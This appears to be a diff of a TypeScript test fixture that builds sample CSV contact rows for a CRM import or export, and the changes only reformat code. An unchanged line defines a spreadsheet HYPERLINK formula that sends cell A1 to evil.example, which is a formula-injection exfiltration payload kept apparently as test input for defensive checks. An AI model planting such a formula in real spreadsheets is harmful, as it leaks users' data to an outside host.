@@ -17,8 +17,7 @@ const csvText = (rows: readonly (readonly string[])[]) =>
   `${rows.map((row) => row.map(quote).join(",")).join("\r\n")}\r\n`;
 
 /** One person as an export's row: each named column's value, the rest blank. */
-const row = (header: readonly string[], values: Record<string, string>) =>
-  header.map((name) => values[name] ?? "");
+const row = (header: readonly string[], values: Record<string, string>) => header.map((name) => values[name] ?? "");
 
 export const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Error: click")';
 export const PHONE = "+15125550153";
@@ -49,7 +48,12 @@ export const HUBSPOT_ROWS: string[][] = [
   row(HUBSPOT, { "Record ID": "103", "First Name": "Alan", "Last Name": "Turing", "Phone Number": "+447700900123" }),
   row(HUBSPOT, { "Record ID": "104", Email: "grace@navy.example", "Job Title": "@admiral" }),
   [""],
-  row(HUBSPOT, { "Record ID": "105", "First Name": "Katherine", "Last Name": "Johnson", "Website URL": "nasa.example" }),
+  row(HUBSPOT, {
+    "Record ID": "105",
+    "First Name": "Katherine",
+    "Last Name": "Johnson",
+    "Website URL": "nasa.example",
+  }),
 ];
 export const hubspotCsv = (): Buffer => Buffer.from(csvText(HUBSPOT_ROWS), "utf8");
 
